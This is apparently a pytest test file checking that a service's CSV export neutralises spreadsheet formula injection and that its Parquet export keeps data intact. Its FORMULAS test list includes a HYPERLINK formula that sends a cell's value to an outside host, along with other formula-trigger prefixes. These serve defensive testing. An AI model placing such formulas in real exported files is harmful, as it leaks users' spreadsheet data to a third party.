"""Tables of trials as files, with text and numbers that programs stumble over."""

import io
import math
from collections.abc import Iterator
from typing import Any

import pandas as pd
import pyarrow as pa
import pyarrow.csv as pa_csv
import pyarrow.parquet as pq
import pytest

from service.trial_files import as_csv, as_parquet

SCHEMA = pa.schema([("number", pa.int64()), ("value", pa.float64()), ("text", pa.string())])
FORMULAS = [
    '=HYPERLINK("http://example.com?x="&A1,"more")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1",
    "\r=1",
    "\n=1",
]
TEXTS = ["plain", "a,b", 'said "fine"', "with=inside", "'=quoted", "línea", ""]
NUMBERS = [-1.5, 0.1 + 0.2, 1e-20, 1.7e308, 3.0, -math.inf, None]


def batches(texts: list[str], size: int = 3) -> Iterator[pa.RecordBatch]:
    numbers = [NUMBERS[place % len(NUMBERS)] for place in range(len(texts))]
    rows = [
        {"number": -place, "value": number, "text": text}
        for place, (number, text) in enumerate(zip(numbers, texts, strict=True))
    ]
    for first in range(0, len(rows), size):
        yield pa.RecordBatch.from_pylist(rows[first : first + size], schema=SCHEMA)


def csv(texts: list[str]) -> bytes:
    return b"".join(as_csv(SCHEMA, batches(texts)))


def read(content: bytes) -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(content), keep_default_na=False, na_values={"value": [""]})


def values(found: Any) -> list[float | None]:
    return [None if value is None or math.isnan(value) else value for value in found]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_would_be_computed_is_defused(text: str) -> None:
    (found,) = read(csv([text]))["text"]
    assert found == f"'{text}"


def test_other_text_and_all_numbers_stay_as_they_are() -> None:
    found = read(csv(TEXTS))
    assert list(found["text"]) == TEXTS
    assert list(found["number"]) == [-place for place in range(len(TEXTS))]
    assert values(found["value"]) == NUMBERS
    again = pa_csv.read_csv(io.BytesIO(csv(TEXTS)))
    assert values(again["value"].to_pylist()) == NUMBERS
    assert again["text"].to_pylist() == TEXTS
    assert again["number"].type == pa.int64()


def test_parquet_is_the_table_itself() -> None:
    parts = list(as_parquet(SCHEMA, batches(FORMULAS)))
    assert len(parts) == 4  # as they come, and what stands at the end of a file
    with pq.ParquetFile(io.BytesIO(b"".join(parts))) as file:
        found = file.read()
        assert file.num_row_groups == 3
    assert found.schema == SCHEMA
    assert found["text"].to_pylist() == FORMULAS
    assert values(found["value"].to_pylist()) == NUMBERS


def test_a_table_without_rows_has_its_columns() -> None:
    assert csv([]) == b'"number","value","text"\n'
    empty = b"".join(as_parquet(SCHEMA, batches([])))
    assert pq.read_table(io.BytesIO(empty)).schema == SCHEMA
